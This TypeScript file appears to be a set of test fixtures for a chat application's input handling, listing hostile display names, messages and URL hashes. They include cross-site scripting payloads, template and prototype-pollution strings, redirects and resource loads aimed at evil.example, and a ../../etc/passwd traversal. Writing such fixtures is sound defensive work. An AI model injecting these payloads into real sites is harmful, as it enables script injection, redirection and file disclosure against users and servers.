/** What an attacker would call themself; at most 64 characters each, as the server permits. */
export const NAMES = [
  `<img src=x onerror=alert(1)>`,
  `<svg onload=alert(1)>`,
  `<script>alert(1)</script>`,
  `"><img src=x onerror=alert(1)>`,
  `'><svg/onload=alert(1)>`,
  `</title><script>alert(1)</script>`,
  `<iframe src="javascript:alert(1)">`,
  `<a href="javascript:alert(1)">Click</a>`,
  `<body onload=alert(1)>`,
  `<details open ontoggle=alert(1)>`,
  `<math><mtext><style><img src onerror=alert(1)>`,
  `{{constructor.constructor("alert(1)")()}}`,
  "${alert(1)}",
  `javascript:alert(1)`,
  `&lt;img src=x onerror=alert(1)&gt;`,
  `<!--><img src=x onerror=alert(1)>-->`,
  `__proto__`,
  `constructor`,
  `\u202egnp.exe <b>bold</b>`,
  `A<base href=//evil.example>`,
];

/** The same and what takes more room. */
export const TEXTS = [
  ...NAMES,
  `<form action="https://evil.example"><input autofocus onfocus=alert(1)></form>`,
  `<object data="data:text/html,<script>alert(1)</script>"></object>`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<link rel=stylesheet href=https://evil.example/x.css>`,
  `<style>@import 'https://evil.example/x.css';</style>`,
  `{"type":"chat","text":"<img src=x onerror=alert(1)>"}`,
  `]]><![CDATA[<script>alert(1)</script>`,
  "<b>bold</b>".repeat(300),
];

/** What may stand in an address where a room's name belongs. */
export const HASHES = [
  `<img src=x onerror=alert(1)>`,
  `javascript:alert(1)`,
  `%3Cscript%3Ealert(1)%3C/script%3E`,
  `"><svg onload=alert(1)>`,
  `//evil.example/`,
  `../../etc/passwd`,
];
